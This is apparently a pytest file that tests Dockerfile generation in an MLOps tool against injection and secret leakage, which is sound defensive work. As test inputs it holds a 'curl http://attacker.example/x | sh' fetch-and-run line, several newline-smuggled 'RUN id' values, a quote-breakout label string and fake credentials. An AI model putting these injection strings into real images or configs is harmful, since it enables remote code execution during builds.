"""What goes into a generated Dockerfile and image: only valid references, nothing that breaks out of its
line or quotes, no index credentials, no secrets of the deployment."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from mlops_gitops.commands.apply import apply
from mlops_gitops.runtime.containers import ContainerError
from mlops_gitops.runtime.packaging import ImageRecipe, write_context
from mlops_gitops.runtime.serving.config import DeploymentConfig
from tests.fake_http import json_server
from tests.helpers import AZ, Result, write
from tests.serving_helpers import served_tree

Cli = Callable[..., Result]
EVIL_IMAGE = "python:3.11\nRUN curl http://attacker.example/x | sh"


def instructions(dockerfile: str) -> list[str]:
    """The instructions of a Dockerfile: comments dropped, continuation lines joined."""
    lines, current = [], ""
    for raw in dockerfile.splitlines():
        if not current and (not raw.strip() or raw.lstrip().startswith("#")):
            continue
        current += raw.rstrip("\\") if raw.endswith("\\") else raw
        if not raw.endswith("\\"):
            lines.append(current.strip())
            current = ""
    return lines


def label_pairs(label: str) -> dict[str, str]:
    """KEY="VALUE" words as Docker reads them: in double quotes a backslash escapes '"', '\\' and '$'."""
    pairs, i, text = {}, 0, label[len("LABEL"):]
    while i < len(text):
        if text[i].isspace():
            i += 1
            continue
        words = []
        for _ in range(2):  # the key, then the value
            assert text[i] == '"', text[i:]
            i += 1
            word = ""
            while text[i] != '"':
                if text[i] == "\\" and text[i + 1] in '"\\$':
                    i += 1
                word += text[i]
                i += 1
            i += 1
            words.append(word)
            if len(words) == 1:
                assert text[i] == "="
                i += 1
        pairs[words[0]] = words[1]
    return pairs


def test_an_image_that_is_not_a_reference_is_invalid_with_its_position(cli: Cli, example: Path) -> None:
    write(example / "environments" / "evil.yml", f"$schema: {AZ}/environment.schema.json\nname: evil\n"
                                                 'image: "python:3.11\\nRUN curl http://attacker.example/x | sh"\n')
    res = cli("validate", str(example), "--offline")
    assert res.code == 1 and "environments/evil.yml:3:1: error FIELD001" in res.out
    assert "not a container image reference" in res.out


def test_a_base_image_that_is_not_a_reference_is_refused(cli: Cli, example: Path) -> None:
    text = (example / "mlops.yaml").read_text().replace('base_image: "mlops-gitops-base:bookworm"',
                                                        'base_image: "base:1 AS x\\nRUN id"')
    (example / "mlops.yaml").write_text(text)
    res = cli("plan", str(example), "-w", "containers")
    assert res.code == 1 and "mlops.yaml:6:77: error FIELD001" in res.err
    assert "not a container image reference" in res.err
    res = cli("package", "cancer/blue", "--base-image", "x\nRUN id", "-C", str(example))
    assert res.code == 1 and "--base-image" in res.err and "Traceback" not in res.err


def recipe(tmp_path: Path, **labels: str) -> ImageRecipe:
    model = tmp_path / "model"
    model.mkdir(exist_ok=True)
    (model / "m.onnx").write_bytes(b"onnx")
    cfg = DeploymentConfig("cancer", "blue", "m", "1", str(model), environment_variables={"DB_PASSWORD": "hunter2"})
    return ImageRecipe(cfg, labels=labels)


def test_label_values_stay_inside_their_quotes(tmp_path: Path) -> None:
    hostile = 'a" \\\nRUN id # $HOME ${PATH} `id` \\'.replace("\n", "")
    ctx = tmp_path / "ctx"
    write_context(recipe(tmp_path, **{"org.example.note": hostile}), ctx)
    steps = instructions((ctx / "Dockerfile").read_text())
    assert [s.split()[0] for s in steps] == ["FROM", "ENV", "COPY", "COPY", "COPY", "RUN", "FROM", "LABEL", "ENV",
                                             "COPY", "COPY", "COPY", "COPY", "ENV", "WORKDIR", "EXPOSE", "ENTRYPOINT",
                                             "CMD"]
    label = next(s for s in steps if s.startswith("LABEL"))
    pairs = label_pairs(label)
    assert pairs["org.example.note"] == hostile
    assert pairs["org.mlops-gitops.environment-variables"] == "DB_PASSWORD"


@pytest.mark.parametrize("field", ["label", "env_label", "base"])
def test_a_value_with_a_newline_is_never_rendered(tmp_path: Path, field: str) -> None:
    r = recipe(tmp_path, **({"note": "x\nRUN id"} if field == "label" else {}))
    if field == "env_label":
        r.env_label, r.script_python = "environment:x:1\nRUN id", "env"
    if field == "base":
        r.base_image = EVIL_IMAGE
    with pytest.raises(ContainerError):
        write_context(r, tmp_path / "ctx")


def test_environment_variables_never_enter_the_image(tmp_path: Path) -> None:
    ctx = tmp_path / "ctx"
    write_context(recipe(tmp_path), ctx)
    leaked = [p for p in ctx.rglob("*") if p.is_file() and b"hunter2" in p.read_bytes()]
    assert leaked == []
    served = json.loads((ctx / "serving.json").read_text())
    assert [d["environment_variables"] for d in served["deployments"].values()] == [{}]


@pytest.mark.slow
def test_package_fetches_with_the_index_credentials_and_writes_none_of_them(
        cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The wheels are fetched here with the host's index settings (the fake index sees the credentials);
    the build context holds the wheels, and no credential, no index setting and no secret of the deployment."""
    seen: list[str | None] = []
    server, url = json_server(lambda method, path, body, auth: (404, {}),
                              lambda method, path, body, auth: seen.append(auth))
    try:
        monkeypatch.setenv("PIP_EXTRA_INDEX_URL", url.replace("http://", "http://alice:s3cret-TOKEN@") + "/simple")
        monkeypatch.setenv("PIP_TRUSTED_HOST", "127.0.0.1")
        monkeypatch.setenv("MLOPS_GITOPS_CACHE", str(tmp_path / "cache"))  # fetched now, not from a cache
        root = served_tree(tmp_path / "repo", {"blue": 100}, green="script",
                           green_settings="environment_variables: {DB_PASSWORD: hunter2, MODE: fast}\n")
        assert apply(str(root), auto_approve=True) == 0
        res = cli("package", "cancer/green", "-o", str(tmp_path / "ctx"), cwd=root)
        assert res.code == 0, res.err
    finally:
        server.shutdown()
    assert f"Basic {base64.b64encode(b'alice:s3cret-TOKEN').decode()}" in seen, "the host used the credentials"
    ctx = tmp_path / "ctx"
    assert list((ctx / "wheelhouse" / "server").glob("onnxruntime-*.whl"))
    for path in ctx.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert b"s3cret-TOKEN" not in data and b"hunter2" not in data, path
    assert "PIP_" not in (ctx / "Dockerfile").read_text().replace("PIP_DISABLE_PIP_VERSION_CHECK", "").replace(
        "PIP_NO_CACHE_DIR", "").replace("PIP_NO_INDEX", "")
    assert "-e DB_PASSWORD=… -e MODE=…" in res.out
